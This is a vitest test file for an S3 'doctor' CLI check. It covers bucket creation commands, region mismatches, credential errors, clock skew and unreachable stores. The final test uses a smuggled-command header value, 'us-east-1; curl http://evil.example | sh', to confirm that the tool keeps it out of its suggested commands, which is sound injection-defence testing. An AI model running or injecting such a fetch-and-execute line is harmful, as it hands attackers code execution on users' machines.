import * as sdk from '@aws-sdk/client-s3'
import { expect, it, onTestFinished } from 'vitest'
import { reachBucket } from '../../../src/cli/doctor/reach.js'
import { createLyingStore } from '../../storage/lying-store.js'
import { createBucketStandIn } from '../bucket-stand-in.js'
import { BUCKET, examineBucket, missing } from './examine-bucket.js'
import { CREDENTIALS, examine, worse } from './run.js'

it.each([
  ['us-east-1', 'create-bucket --region us-east-1'],
  ['eu-central-1', 'create-bucket --region eu-central-1 --create-bucket-configuration LocationConstraint=eu-central-1'],
])('reachBucket makes a missing bucket at AWS where it was asked for: %s', async (region, command) => {
  const { findings, isUsable } = await reachBucket({
    sdk,
    bucket: 'media',
    region,
    place: `AWS, ${region}`,
    isAws: true,
    command: (name, rest) => `${name} ${rest}`,
    ask: async () => ({ kind: 'absent', reason: 'NoSuchBucket', status: 404 }),
    lastAnswer: () => undefined,
    close() {},
  })
  expect(findings).toMatchObject([{ check: 'bucket', severity: 'error', fix: { command } }])
  expect(isUsable).toBe(false)
})

it.each([
  ['301', { status: 301 }],
  ['400', { status: 400 }],
  ['403', { status: 403 }],
])('runDoctor names the right region when a HEAD is answered with %s, and stops', async (_name, { status }) => {
  const { findings, store, exitCode } = await examineBucket({
    'HEAD bucket': { status, headers: { 'x-amz-bucket-region': 'ap-south-1' } },
  })
  expect(worse(findings)).toEqual([
    {
      check: 'region',
      severity: 'error',
      finding: 'archive is in ap-south-1, and the settings say eu-central-1',
      fix: { advice: 'Set the region of the bucket', command: 'export AWS_REGION=ap-south-1' },
    },
  ])
  expect(exitCode).toBe(2)
  expect(new Set(store.questions)).toEqual(new Set(['HEAD bucket']))
})

it('runDoctor warns of another region where the store answers in spite of it', async () => {
  const { worse: found, exitCode } = await examineBucket({
    'HEAD bucket': { status: 200, headers: { 'x-amz-bucket-region': 'ap-south-1' } },
  })
  expect(found).toMatchObject([{ check: 'region', severity: 'warning' }])
  expect(exitCode).toBe(1)
})

it.each([
  [
    'a missing bucket',
    missing('NoSuchBucket'),
    /^There is no bucket archive \(127/,
    /^aws s3api create-bucket --bucket archive --region eu-central-1 --endpoint-url /,
  ],
  [
    'a wrong key id',
    { status: 403, code: 'InvalidAccessKeyId' },
    /does not accept the credentials \(InvalidAccessKeyId\)/,
    /sts get-caller/,
  ],
  [
    'a wrong secret key',
    { status: 403, code: 'SignatureDoesNotMatch' },
    /does not accept the credentials/,
    /sts get-caller/,
  ],
  [
    'an ended session',
    { status: 400, code: 'ExpiredToken' },
    /does not accept the credentials \(ExpiredToken\)/,
    /sts get-caller/,
  ],
  ['a web server that is no store', { status: 404, body: '<html>' }, /with [A-Za-z-]+( 404)?, HTTP 404$/, undefined],
  ['a store at fault', { status: 500, code: 'InternalError' }, /with InternalError, HTTP 500$/, undefined],
] as const)('runDoctor gives %s one clear line, and stops', async (_name, answer, finding, command) => {
  const {
    worse: found,
    exitCode,
    store,
  } = await examineBucket({
    'HEAD bucket': { status: answer.status },
    'list-type': answer,
  })
  expect(found).toMatchObject([{ check: 'bucket', severity: 'error', finding: expect.stringMatching(finding) }])
  expect(found[0]?.fix?.command ?? '').toMatch(command ?? /^$/)
  expect(exitCode).toBe(2)
  expect(store.questions).not.toContain('PUT object')
})

it('runDoctor distinguishes an address from the name of a bucket', async () => {
  const { worse: found } = await examineBucket({}, { settings: { bucket: 's3://archive' } })
  expect(found).toMatchObject([{ check: 'bucket', finding: 's3://archive is no name of a bucket' }])
})

it('runDoctor makes a bucket in us-east-1 without a location, which would be refused', async () => {
  const { worse: found } = await examineBucket(
    { 'HEAD bucket': { status: 404 }, 'list-type': missing('NoSuchBucket') },
    { settings: { region: 'us-east-1' } },
  )
  expect(found[0]?.fix?.command).toMatch(/^aws s3api create-bucket --bucket archive --region us-east-1 --endpoint-url /)
})

const NOON = Date.UTC(2026, 10, 22, 12)

it.each([
  ['ahead of', 3_600_000, 'error', 2],
  ['behind', -3_600_000, 'error', 2],
  ['ahead of', 300_000, 'warning', 1],
])('runDoctor says when this clock is %s the store by %i ms', async (words, skew, severity, expectedCode) => {
  const headers = { date: new Date(NOON).toUTCString(), 'x-amz-bucket-region': 'eu-central-1' }
  const { worse: found, exitCode } = await examineBucket(
    { 'HEAD bucket': { status: 200, headers } },
    { now: () => NOON + skew },
  )
  expect(found).toMatchObject([{ check: 'clock', severity, fix: { command: 'sudo timedatectl set-ntp true' } }])
  expect(found[0]?.finding).toContain(`This clock is ${Math.abs(skew) / 1_000} s ${words} the store`)
  expect(exitCode).toBe(expectedCode)
})

it('runDoctor says nothing of clocks where the store does not', async () => {
  const { findings } = await examineBucket({
    'HEAD bucket': { status: 200, headers: { date: 'soon', 'x-amz-bucket-region': 'eu-central-1' } },
  })
  expect(findings.map(({ check }) => check)).not.toContain('clock')
})

it('runDoctor reports that a store cannot be reached', async () => {
  const gone = await createBucketStandIn()
  await gone.close()
  const { findings, exitCode } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: gone.endpoint },
    { credentials: CREDENTIALS },
  )
  expect(findings.slice(1)).toMatchObject([
    {
      check: 'bucket',
      severity: 'error',
      finding: expect.stringMatching(/^The store cannot be reached: ECONNREFUSED \(127\.0\.0\.1:\d+\)$/),
    },
  ])
  expect(exitCode).toBe(2)
})

it('runDoctor gives a store that never answers its time, and no more', async () => {
  const store = await createLyingStore('never answers')
  onTestFinished(() => store.close())
  const { findings } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: store.endpoint },
    { credentials: CREDENTIALS, timeoutMs: 50 },
  )
  expect(findings[1]?.finding).toMatch(/^The store cannot be reached: timeout /)
})

it('runDoctor says when there are no credentials', async () => {
  const none = Object.assign(new Error('none'), { name: 'CredentialsProviderError' })
  const { findings, exitCode } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: 'http://127.0.0.1:1' },
    { credentials: () => Promise.reject(none) },
  )
  expect(findings.slice(1)).toMatchObject([
    { check: 'bucket', severity: 'error', finding: expect.stringMatching(/no AWS credentials/) },
  ])
  expect(exitCode).toBe(2)
})

it("runDoctor puts nothing into a command that is no region's name, whatever the store says", async () => {
  const region = 'us-east-1; curl http://evil.example | sh'
  const { text } = await examineBucket({ 'HEAD bucket': { status: 301, headers: { 'x-amz-bucket-region': region } } })
  expect(text).not.toContain('evil')
})
